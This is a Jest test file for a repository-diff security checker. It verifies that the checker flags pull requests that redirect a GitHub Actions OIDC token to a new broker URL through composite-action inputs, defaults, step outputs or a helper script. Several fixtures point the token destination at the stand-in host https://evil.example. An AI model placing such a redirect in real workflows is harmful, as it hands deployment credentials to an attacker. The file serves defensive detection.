/**
 * Session 32 (w-rfaces): where a stepwarden step inside a local composite action sends the job's OIDC
 * token. Its `broker-url: ${{ inputs.url }}` is what the workflow step running the action passes (or
 * the input's default); the diff compared the action's text as written, so a pull request changing
 * the workflow's `url: https://broker.corp.example` to `url: https://evil.example`, or the default,
 * said "No access changes". A `broker-url: ${{ steps.u.outputs.url }}` written by the action's own
 * step (its `run:` line, or a script it calls) read "nothing in the files" on both sides. All five
 * positive cases failed at f6cb0ee. Now the inputs are read as the check reads them (withInputsRead)
 * and a destination still computed (`https://${{ inputs.url }}/x` too) reads the inputs passed, the
 * job's local actions and the repository's files.
 */
import { describe, expect, it } from '@jest/globals';
import { diff, type Change } from '../hostile-faces-s31/diff-trees.js';

const SW = 'stepwarden/stepwarden/actions/run@0123456789abcdef0123456789abcdef01234567';
const sink = (url: string) =>
  `    - uses: ${SW}\n      with:\n        audience: https://deploy.example\n        run: make deploy\n        broker-url: ${url}\n        oidc-audience: https://broker.corp.example\n`;
const byInput = (def = 'https://broker.corp.example') =>
  `name: d\ndescription: x\ninputs:\n  url:\n    description: x\n    default: ${def}\nruns:\n  using: composite\n  steps:\n${sink('${{ inputs.url }}')}`;
const byStep = (run: string) =>
  `name: d\ndescription: x\nruns:\n  using: composite\n  steps:\n    - id: u\n      run: ${run}\n      shell: bash\n${sink('${{ steps.u.outputs.url }}')}`;
const job = (withs = '') =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions: { contents: read, id-token: write }\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n      - id: d\n        uses: ./actions/deploy\n${withs}`;
const ACTION = 'actions/deploy/action.yml';
const widened = (changes: Change[]) =>
  changes.filter((c) => c.subject.startsWith('OIDC token') && c.effect === 'widened');

describe('diff: the token destination of a stepwarden step inside a local composite action (s32)', () => {
  it("`${{ inputs.url }}`: the workflow step's `with:` and the input's default", async () => {
    const withUrl = (u: string) => job(`        with:\n          url: ${u}\n`);
    const f = { [ACTION]: byInput() };
    expect(
      widened(
        await diff(withUrl('https://broker.corp.example'), withUrl('https://evil.example'), {
          base: f,
          head: f,
        }),
      ),
    ).toHaveLength(1);
    expect(
      widened(await diff(job(), job(), { base: f, head: { [ACTION]: byInput('https://evil.example') } })),
    ).toHaveLength(1);
    // An input read inside a longer text stays computed: what the step passes is among its sources.
    const host = { [ACTION]: byInput().replace('${{ inputs.url }}', 'https://${{ inputs.url }}/x') };
    expect(
      widened(
        await diff(withUrl('broker.corp.example'), withUrl('evil.example'), { base: host, head: host }),
      ),
    ).toHaveLength(1);
    // Negatives: the same value passed; a default changed that the step overrides.
    expect(
      await diff(withUrl('https://broker.corp.example'), withUrl('https://broker.corp.example'), {
        base: f,
        head: f,
      }),
    ).toEqual([]);
    expect(
      await diff(withUrl('https://broker.corp.example'), withUrl('https://broker.corp.example'), {
        base: f,
        head: { [ACTION]: byInput('https://evil.example') },
      }),
    ).toEqual([]);
  });

  it("`${{ steps.u.outputs.url }}` written by the action's own step or a script it calls", async () => {
    const echo = (u: string) => `echo "url=${u}" >> "$GITHUB_OUTPUT"`;
    expect(
      widened(
        await diff(job(), job(), {
          base: { [ACTION]: byStep(echo('https://broker.corp.example')) },
          head: { [ACTION]: byStep(echo('https://evil.example')) },
        }),
      ),
    ).toHaveLength(1);
    const a = { [ACTION]: byStep('./pick.sh >> "$GITHUB_OUTPUT"') };
    expect(
      widened(
        await diff(job(), job(), {
          base: { ...a, 'pick.sh': 'echo url=https://broker.corp.example\n' },
          head: { ...a, 'pick.sh': 'echo url=https://evil.example\n' },
        }),
      ),
    ).toHaveLength(1);
    expect(
      await diff(job(), job(), { base: { ...a, 'pick.sh': 'x\n' }, head: { ...a, 'pick.sh': 'x\n' } }),
    ).toEqual([]);
  });
});
